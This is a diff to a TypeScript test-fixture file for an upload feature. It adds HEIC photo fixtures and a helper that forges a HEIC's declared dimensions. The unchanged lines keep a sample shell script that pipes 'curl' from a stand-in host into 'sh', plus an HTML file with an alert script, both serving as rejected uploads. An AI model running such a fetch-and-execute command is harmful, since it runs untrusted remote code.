@@ -1,4 +1,5 @@
 /** Files the tests of claim-report-files send: real photos and PDFs made here, and the bad ones of issue 22. */
+import { readFileSync } from 'node:fs';
 import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
 import sharp from 'sharp';
 
@@ -51,3 +52,26 @@ export async function launchingPdf() {
 
 export const SCRIPT = Buffer.from('#!/bin/sh\ncurl http://example.invalid/x | sh\n');
 export const HTML = Buffer.from('<!doctype html><html><body><script>alert(1)</script></body></html>\n');
+
+const fixture = (name: string) =>
+  readFileSync(new URL(`../modules/claim-report-files/fixtures/${name}`, import.meta.url));
+
+/**
+ * A HEIC as an iPhone writes it: 96×64 pixels as the sensor saw them (left third red, the rest blue), the
+ * container's `irot` turning them 90° clockwise (shown 64×96, red on top), and its EXIF with camera, time,
+ * GPS position (Milan) and orientation 6, which HEIF readers ignore. Made with Debian's heif-enc 1.15 from
+ * a JPEG, the rotation added by fixtures/add-rotation.mjs (heif-enc 1.15 writes none).
+ */
+export const iphonePhoto = () => fixture('photo.heic');
+
+/** A 12 MP HEIC (4032×3024, an iPhone's photo size) of a gradient: a few KB, the whole decoding work. */
+export const iphonePhoto12mp = () => fixture('photo-12mp.heic');
+
+/** A copy of `heic` declaring `width`×`height` in its `ispe` property: its stream still holds what it did. */
+export function heicDeclaring(heic: Buffer, width: number, height: number) {
+  const copy = Buffer.from(heic);
+  const at = copy.indexOf('ispe') + 8;
+  copy.writeUInt32BE(width, at);
+  copy.writeUInt32BE(height, at + 4);
+  return copy;
+}
